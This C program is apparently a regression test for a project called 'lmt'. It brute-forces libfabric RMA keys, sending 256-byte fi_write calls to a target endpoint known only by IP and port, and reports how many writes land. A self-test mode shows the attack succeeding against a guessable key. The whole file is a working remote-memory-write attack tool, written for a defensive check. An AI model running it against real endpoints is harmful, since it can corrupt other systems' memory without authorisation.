/* A libfabric writer outside any lmt session: what a third party on the
 * network can do against a destination's ofi endpoint knowing only its IP
 * and port. It opens an RDM endpoint of its own over tcp;ofi_rxm, inserts
 * the target's address, and tries fi_write of 256 bytes with every key from
 * 0 to N, key k at offset 0, 64 or 4096 by k mod 3 (offset addressing, as
 * lmt uses with tcp), then reports how the writes ended:
 *
 *     attack: 1001 writes, 0 accepted, 1001 refused by the target, 0 unanswered
 *
 * and, for each error seen, how often. Exit 0 when it ran (whatever the
 * outcome: the test reads the line), 2 when it could not set up.
 *
 * --self-test runs the same attack against a target endpoint of its own
 * that registers 64 KiB under key 3 (as lmt did before its keys were
 * random; it is hit at offset 0):
 * there the attack must land, which shows that the program reaches and
 * writes a target whose key it can guess. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <rdma/fabric.h>
#include <rdma/fi_cm.h>
#include <rdma/fi_domain.h>
#include <rdma/fi_endpoint.h>
#include <rdma/fi_errno.h>
#include <rdma/fi_rma.h>

#define WRITE_LEN 256
#define SECOND 1000000000ull

static const uint64_t offsets[] = {0, 64, 4096};
#define OFFSETS (sizeof(offsets) / sizeof(offsets[0]))

struct side {
	struct fi_info *info;
	struct fid_fabric *fabric;
	struct fid_domain *domain;
	struct fid_av *av;
	struct fid_cq *cq;
	struct fid_ep *ep;
};

static uint64_t now_ns(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * SECOND + (uint64_t)ts.tv_nsec;
}

static int fail(const char *what, int rc)
{
	fprintf(stderr, "attacker: %s: %s\n", what, fi_strerror(-rc));
	return -1;
}

/* The endpoint, its address vector and completion queue: what a retry
 * makes anew. */
static int endpoint_open(struct side *s)
{
	struct fi_av_attr av = {.type = FI_AV_TABLE, .count = 4};
	int rc = fi_av_open(s->domain, &av, &s->av, NULL);
	if (rc)
		return fail("fi_av_open", rc);
	struct fi_cq_attr cq = {.format = FI_CQ_FORMAT_CONTEXT, .size = 64};
	if ((rc = fi_cq_open(s->domain, &cq, &s->cq, NULL)))
		return fail("fi_cq_open", rc);
	if ((rc = fi_endpoint(s->domain, s->info, &s->ep, NULL)))
		return fail("fi_endpoint", rc);
	if ((rc = fi_ep_bind(s->ep, &s->av->fid, 0)) ||
	    (rc = fi_ep_bind(s->ep, &s->cq->fid, FI_TRANSMIT | FI_RECV)) ||
	    (rc = fi_enable(s->ep)))
		return fail("binding the endpoint", rc);
	return 0;
}

static void endpoint_close(struct side *s)
{
	if (s->ep)
		fi_close(&s->ep->fid);
	if (s->cq)
		fi_close(&s->cq->fid);
	if (s->av)
		fi_close(&s->av->fid);
	s->ep = NULL;
	s->cq = NULL;
	s->av = NULL;
}

static int side_open(struct side *s)
{
	memset(s, 0, sizeof(*s));
	struct fi_info *hints = fi_allocinfo();
	if (!hints)
		return fail("fi_allocinfo", -FI_ENOMEM);
	hints->ep_attr->type = FI_EP_RDM;
	hints->caps = FI_RMA | FI_MSG;
	hints->addr_format = FI_SOCKADDR_IN;
	hints->domain_attr->mr_mode = FI_MR_VIRT_ADDR | FI_MR_ALLOCATED | FI_MR_PROV_KEY;
	hints->domain_attr->threading = FI_THREAD_SAFE;
	/* A completion once the target has taken the write: its answer. */
	hints->tx_attr->op_flags = FI_DELIVERY_COMPLETE;
	hints->fabric_attr->prov_name = strdup("tcp");
	int rc = fi_getinfo(FI_VERSION(1, 17), NULL, NULL, 0, hints, &s->info);
	fi_freeinfo(hints);
	if (rc)
		return fail("fi_getinfo(tcp)", rc);
	/* On the loopback, like the target. */
	for (struct fi_info *i = s->info; i; i = i->next) {
		const struct sockaddr_in *sa = i->src_addr;
		if (sa && sa->sin_family == AF_INET && sa->sin_addr.s_addr == htonl(INADDR_LOOPBACK)) {
			struct fi_info *pick = fi_dupinfo(i);
			fi_freeinfo(s->info);
			s->info = pick;
			break;
		}
	}
	if (!s->info)
		return fail("fi_dupinfo", -FI_ENOMEM);
	if ((rc = fi_fabric(s->info->fabric_attr, &s->fabric, NULL)))
		return fail("fi_fabric", rc);
	if ((rc = fi_domain(s->fabric, s->info, &s->domain, NULL)))
		return fail("fi_domain", rc);
	return endpoint_open(s);
}

static void side_close(struct side *s)
{
	endpoint_close(s);
	if (s->domain)
		fi_close(&s->domain->fid);
	if (s->fabric)
		fi_close(&s->fabric->fid);
	if (s->info)
		fi_freeinfo(s->info);
}

/* The errors the writes ended with, and how often. */
struct tally {
	unsigned writes, accepted, refused, unanswered;
	int errs[16];
	unsigned counts[16];
	unsigned kinds;
};

static void count_error(struct tally *t, int err)
{
	for (unsigned i = 0; i < t->kinds; i++)
		if (t->errs[i] == err) {
			t->counts[i]++;
			return;
		}
	if (t->kinds < 16) {
		t->errs[t->kinds] = err;
		t->counts[t->kinds++] = 1;
	}
}

/* Drive `target` too when it is ours (self-test): tcp needs the target's
 * progress. 1 when the write completed, 0 when it failed, -1 unanswered. */
static int wait_one(struct side *a, struct side *target, struct tally *t)
{
	uint64_t deadline = now_ns() + 2 * SECOND;
	while (now_ns() < deadline) {
		struct fi_cq_entry e;
		ssize_t n = fi_cq_read(a->cq, &e, 1);
		if (n == 1)
			return 1;
		if (n == -FI_EAVAIL) {
			struct fi_cq_err_entry err = {0};
			if (fi_cq_readerr(a->cq, &err, 0) == 1) {
				count_error(t, err.err);
				return 0;
			}
		}
		if (target) {
			struct fi_cq_entry te;
			(void)fi_cq_read(target->cq, &te, 1);
		}
	}
	return -1;
}

/* A refused write costs the attacker its connection: the tcp provider
 * closes a connection that names an unknown key, and ofi_rxm does not make
 * another to the same peer. So the attacker starts over, with a fresh
 * endpoint (a new connection) for every next guess. */
static int reopen(struct side *a, const struct sockaddr_in *sin, fi_addr_t *dest);

static void attack(struct side *a, struct side *target, const struct sockaddr_in *sin,
                   fi_addr_t *dest, unsigned keys, struct tally *t)
{
	static uint8_t buf[WRITE_LEN];
	struct fi_context2 ctx;
	memset(buf, 0xee, sizeof(buf));
	for (unsigned key = 0; key <= keys; key++) {
		uint64_t offset = offsets[key % OFFSETS];
		ssize_t rc;
		/* ofi_rxm answers EAGAIN until it has connected. */
		uint64_t deadline = now_ns() + 10 * SECOND;
		do {
			rc = fi_write(a->ep, buf, sizeof(buf), NULL, *dest, offset, key, &ctx);
			if (rc == -FI_EAGAIN) {
				struct fi_cq_entry e;
				(void)fi_cq_read(a->cq, &e, 1);
				if (target)
					(void)fi_cq_read(target->cq, &e, 1);
			}
		} while (rc == -FI_EAGAIN && now_ns() < deadline);
		t->writes++;
		int done = -1;
		if (rc && rc != -FI_EAGAIN) {
			count_error(t, (int)-rc);
			done = 0;
		} else if (rc) {
			count_error(t, FI_EAGAIN); /* never posted: unanswered */
		} else {
			done = wait_one(a, target, t);
		}
		if (done > 0) {
			t->accepted++;
			continue;
		}
		if (done == 0)
			t->refused++;
		else
			t->unanswered++;
		if (reopen(a, sin, dest))
			return;
	}
}

static void report(const struct tally *t)
{
	printf("attack: %u writes, %u accepted, %u refused by the target, %u unanswered\n",
	       t->writes, t->accepted, t->refused, t->unanswered);
	for (unsigned i = 0; i < t->kinds; i++)
		printf("attack: error %d (%s): %u\n", t->errs[i], fi_strerror(t->errs[i]),
		       t->counts[i]);
	fflush(stdout);
}

static int insert(struct side *a, const struct sockaddr_in *sin, fi_addr_t *dest)
{
	int n = fi_av_insert(a->av, sin, 1, dest, 0, NULL);
	return n == 1 ? 0 : fail("fi_av_insert", n < 0 ? n : -FI_EINVAL);
}

static int reopen(struct side *a, const struct sockaddr_in *sin, fi_addr_t *dest)
{
	endpoint_close(a);
	return endpoint_open(a) || insert(a, sin, dest) ? -1 : 0;
}

/* A target of our own with 64 KiB under key 3: the attack must land. */
static int self_test(unsigned keys)
{
	struct side target, a;
	static uint8_t victim[1 << 16];
	int rc = -1;
	if (side_open(&target) || side_open(&a))
		goto out;
	struct fid_mr *mr;
	int err = fi_mr_reg(target.domain, victim, sizeof(victim), FI_REMOTE_WRITE, 0, 3, 0, &mr,
	                    NULL);
	if (err) {
		fail("fi_mr_reg", err);
		goto out;
	}
	struct sockaddr_in sin;
	size_t len = sizeof(sin);
	fi_addr_t dest;
	if ((err = fi_getname(&target.ep->fid, &sin, &len)) || insert(&a, &sin, &dest)) {
		fail("fi_getname", err);
		fi_close(&mr->fid);
		goto out;
	}
	struct tally t = {0};
	attack(&a, &target, &sin, &dest, keys, &t);
	report(&t);
	unsigned touched = 0;
	for (size_t i = 0; i < sizeof(victim); i++)
		touched += victim[i] == 0xee;
	printf("self-test: %u bytes of the target written\n", touched);
	fi_close(&mr->fid);
	rc = t.accepted > 0 && touched > 0 ? 0 : 1;
out:
	side_close(&a);
	side_close(&target);
	return rc;
}

int main(int argc, char **argv)
{
	unsigned keys = 1000;
	/* Every refused guess costs a connection, and so an endpoint of
	 * ofi_rxm: small message rings make one in milliseconds. */
	setenv("FI_OFI_RXM_MSG_RX_SIZE", "8", 0);
	setenv("FI_OFI_RXM_MSG_TX_SIZE", "8", 0);
	if (argc >= 2 && strcmp(argv[1], "--self-test") == 0)
		return self_test(argc >= 3 ? (unsigned)strtoul(argv[2], NULL, 0) : 8) ? 1 : 0;
	if (argc < 3) {
		fprintf(stderr, "usage: %s HOST PORT [KEYS] | --self-test [KEYS]\n", argv[0]);
		return 2;
	}
	if (argc >= 4)
		keys = (unsigned)strtoul(argv[3], NULL, 0);
	struct sockaddr_in sin = {.sin_family = AF_INET,
	                          .sin_port = htons((uint16_t)strtoul(argv[2], NULL, 0))};
	if (inet_pton(AF_INET, argv[1], &sin.sin_addr) != 1) {
		fprintf(stderr, "attacker: %s is not an IPv4 address\n", argv[1]);
		return 2;
	}
	struct side a;
	fi_addr_t dest;
	if (side_open(&a) || insert(&a, &sin, &dest)) {
		side_close(&a);
		return 2;
	}
	struct tally t = {0};
	attack(&a, NULL, &sin, &dest, keys, &t);
	report(&t);
	side_close(&a);
	return 0;
}
